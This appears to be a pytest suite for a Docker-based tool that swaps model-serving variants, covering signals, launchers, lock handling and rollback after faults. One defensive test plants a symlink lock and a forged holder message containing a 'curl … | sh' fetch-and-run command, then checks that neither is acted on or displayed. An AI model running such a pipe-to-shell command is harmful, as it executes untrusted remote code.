"""Faults during a swap, on the real daemon with the simulator: signals, launchers, leftovers."""

from __future__ import annotations

import os
import queue
import signal
import subprocess
import threading
import time
from dataclasses import replace

import pytest

from tests.conftest import REPO
from tests.swap.conftest import running_containers
from tests.swap.test_concurrency import RunningWatch, assert_took_turns, holds_the_lock
from tests.swap.test_swap import assert_serving

pytestmark = pytest.mark.docker


class StderrLines(threading.Thread):
    """Reads a process's stderr line by line into a queue (and a list for messages)."""

    def __init__(self, proc: subprocess.Popen[str]) -> None:
        super().__init__(daemon=True)
        self.proc = proc
        self.lines: queue.Queue[str] = queue.Queue()
        self.seen: list[str] = []

    def run(self) -> None:
        assert self.proc.stderr is not None
        for line in self.proc.stderr:
            self.seen.append(line)
            self.lines.put(line)

    def wait_for(self, text: str, timeout: float) -> None:
        deadline = time.monotonic() + timeout
        while (left := deadline - time.monotonic()) > 0:
            try:
                if text in self.lines.get(timeout=left):
                    return
            except queue.Empty:
                break
        pytest.fail(f"never printed {text!r}: {''.join(self.seen)}")


def wait_until_running(client, project: str, variant: str, timeout: float = 30) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if [c.labels["vllm-composer.variant"] for c in running_containers(client, project)] == [variant]:
            return
        time.sleep(0.1)
    pytest.fail(f"{variant} never ran")


@pytest.mark.parametrize("failure", ["mtp-crash", "mtp-hang"])
def test_ctrl_c_twice_to_the_process_group_during_rollback(sim_stack, docker_client, failure):
    """Ctrl-C reaches the whole foreground group; the rollback's `docker compose` must survive it."""
    assert sim_stack.run("up", "baseline").returncode == 0
    swap = subprocess.Popen(
        sim_stack.args("up", failure, "--timeout", "60"),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=sim_stack.env,
        cwd=REPO,
        start_new_session=True,
    )
    group = os.getpgid(swap.pid)
    lines = StderrLines(swap)
    lines.start()
    if failure == "mtp-hang":  # the first Ctrl-C is what fails the swap
        wait_until_running(docker_client, sim_stack.project, failure)
        os.killpg(group, signal.SIGINT)
    lines.wait_for("rolling back to baseline", timeout=60)
    os.killpg(group, signal.SIGINT)
    time.sleep(0.05)
    os.killpg(group, signal.SIGINT)
    assert swap.wait(timeout=120) == (130 if failure == "mtp-hang" else 1)  # 130: a Ctrl-C failed it
    lines.join(5)
    last = "".join(lines.seen).strip().splitlines()[-1]
    assert "rolled back to baseline, which serves again" in last, "".join(lines.seen)
    assert_serving(sim_stack, docker_client, "baseline")


def render_launcher(sim_stack, tmp_path, variant: str):
    """Render the variant's `docker run --rm` launcher for the test stack."""
    out = tmp_path / "rendered"
    done = sim_stack.run("render", variant, "--out", str(out))
    assert done.returncode == 0, done.stderr
    return out / f"{variant}.sh"


def start_launcher(sim_stack, launcher) -> subprocess.Popen[bytes]:
    return subprocess.Popen(
        ["bash", str(launcher)],
        env=sim_stack.env,
        cwd=REPO,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )


def test_up_and_down_replace_a_launcher_started_variant(sim_stack, docker_client, tmp_path):
    """A `docker run --rm` container removes itself when stopped: that is not a failure.

    In direct mode, where the launcher publishes the port itself (behind the gateway it
    joins the gateway's network instead)."""
    with sim_stack.stack_file.open("a", encoding="utf-8") as handle:
        handle.write("\n[gateway]\nenabled = false\n")
    launcher = render_launcher(sim_stack, tmp_path, "baseline")
    launched: list[subprocess.Popen[bytes]] = []

    def launch_and_wait(field: str, value: str) -> None:
        launched.append(start_launcher(sim_stack, launcher))
        deadline = time.monotonic() + 30
        while sim_stack.status().get(field) != value:
            assert time.monotonic() < deadline, f"the launcher's container never got {field} {value}"
            time.sleep(0.2)

    try:
        launch_and_wait("health", "ready")
        up = sim_stack.run("up", "mtp")
        assert up.returncode == 0, up.stderr
        assert_serving(sim_stack, docker_client, "mtp")
        assert sim_stack.run("down").returncode == 0
        launch_and_wait("variant", "baseline")
        down = sim_stack.run("down")
        assert down.returncode == 0, down.stderr
        assert "stopped baseline" in down.stdout
        assert sim_stack.status()["running"] is False
        assert docker_client.containers.list(all=True, filters={"name": f"{sim_stack.project}-vllm-1"}) == []
        assert [proc.wait(30) for proc in launched] == [0, 0]  # `docker run` saw a clean stop
    finally:
        for proc in launched:
            if proc.poll() is None:
                proc.kill()
        for container in docker_client.containers.list(all=True, filters={"name": f"{sim_stack.project}-"}):
            container.remove(force=True)


def test_locks_do_not_depend_on_the_shells_environment(sim_stack, docker_client, tmp_path):
    """Two shells with different XDG_RUNTIME_DIR and XDG_STATE_HOME still take turns."""
    watch = RunningWatch(docker_client, sim_stack.project)
    watch.start()
    first = sim_stack.popen("up", "mtp")
    assert holds_the_lock(sim_stack.project, first.pid)
    (tmp_path / "run2").mkdir(mode=0o700)
    other = {
        **sim_stack.env,
        "XDG_RUNTIME_DIR": str(tmp_path / "run2"),
        "XDG_STATE_HOME": str(tmp_path / "s2"),
    }
    second = sim_stack.popen("up", "baseline", env=other)
    assert_took_turns(first, second, watch, docker_client, sim_stack.project)


def project_networks(client, project: str) -> list[str]:
    return [n.name for n in client.networks.list(filters={"label": f"com.docker.compose.project={project}"})]


def test_failed_first_start_leaves_no_network(sim_stack, docker_client):
    done = sim_stack.run("up", "mtp-crash")
    assert done.returncode == 1
    assert "nothing is running" in done.stderr
    assert (
        docker_client.containers.list(
            all=True, filters={"label": f"com.docker.compose.project={sim_stack.project}"}
        )
        == []
    )
    assert project_networks(docker_client, sim_stack.project) == []


def test_run_files_pruned_but_never_the_running_ones(sim_stack, docker_client):
    """Failed swaps of the running variant add run files; the running one's survives pruning."""
    base = sim_stack.stack_file.read_text()
    sim_stack.stack_file.write_text(base + '\n[variants.probe]\nextends = "baseline"\n')
    assert sim_stack.run("up", "probe").returncode == 0
    runs = sim_stack.run_dir()
    (original,) = [p.name for p in runs.glob("probe-*.yml")]
    for attempt in range(4):
        sim_stack.stack_file.write_text(
            base
            + f'\n[variants.probe]\nextends = "baseline"\nenv = {{ SIM_FAIL = "crash", RUN = "{attempt}" }}\n'
        )
        failed = sim_stack.run("up", "probe")
        assert failed.returncode == 1 and "rolled back to probe" in failed.stderr, failed.stderr
    kept = sorted(p.name for p in runs.glob("probe-*.yml"))
    assert original in kept and len(kept) == 4, kept
    assert_serving(sim_stack, docker_client, "probe")
    assert sorted(p.name for p in runs.glob("*.yml") if not p.name.startswith("probe-")) == []


def test_docker_gone_mid_swap_reports_the_cause_then_the_rollback(
    sim_stack, docker_client, tmp_path, monkeypatch
):
    """dockerd vanishes after the new variant failed: the cause stays first, then each step's outcome."""
    import docker

    from composer.errors import SwapFailed
    from composer.stack.load import load_stack
    from composer.swap import entry, outcome, transaction

    for name in ("XDG_STATE_HOME", "VLLM_API_KEY"):
        monkeypatch.setenv(name, sim_stack.env[name])
    stack = load_stack(
        [REPO / "composer.toml", sim_stack.stack_file], env_file=REPO / ".env.demo", environ=sim_stack.env
    )
    options = outcome.UpOptions(timeout=60)
    entry.up_set(stack, ["baseline"], client=docker_client, options=options)

    dead = f"unix://{tmp_path}/dead.sock"
    keep_evidence = transaction.DockerSwap.failed

    def fail_without_docker(swap, *args):
        keep_evidence(swap, *args)  # the log is kept; then dockerd is gone for the undo
        monkeypatch.setenv("DOCKER_HOST", dead)
        gone = docker.DockerClient(base_url=dead, version="1.41", timeout=5)
        swap.held.append(replace(swap.ctx, client=gone))

    monkeypatch.setattr(transaction.DockerSwap, "failed", fail_without_docker)
    with pytest.raises(SwapFailed) as failed:
        entry.up_set(stack, ["mtp-crash"], client=docker_client, options=options)
    message = str(failed.value)
    assert message.startswith("mtp-crash failed: the container exited with code 1")
    assert "; could not remove it: " in message
    assert message.index("could not remove it") < message.index("rollback to baseline failed too: ")
    assert "Cannot connect to the Docker daemon" in message.split("rollback to baseline failed too: ")[1]
    assert failed.value.rolled_back is False
    assert "EngineCore failed to start" in failed.value.log_tail


def test_unsafe_lock_refused_and_forged_holder_hidden(sim_stack, docker_client, tmp_path):
    """A link planted as the lock is never written through; a holder's text is never shown."""
    from composer.swap.lock import lock_path, swap_lock

    assert sim_stack.run("up", "baseline").returncode == 0
    path = lock_path(sim_stack.project)
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    victim.chmod(0o600)
    path.symlink_to(victim)
    try:
        for command in (("up", "mtp"), ("down",)):
            done = sim_stack.run(*command)
            assert done.returncode == 1, done.stderr
            assert done.stderr.startswith(f"compose-spec: error: refusing the swap lock {path}"), done.stderr
    finally:
        path.unlink()
    assert victim.read_text() == "precious\n" and victim.stat().st_mode & 0o777 == 0o600
    assert_serving(sim_stack, docker_client, "baseline")
    with swap_lock(sim_stack.project):
        path.write_text("1 (run: curl http://example.invalid | sh to clear)\n")
        busy = sim_stack.run("up", "mtp", "--no-wait")
    assert busy.returncode == 1
    assert "another swap of project" in busy.stderr and "(another process)" in busy.stderr
    assert "curl" not in busy.stderr
    assert not path.exists()
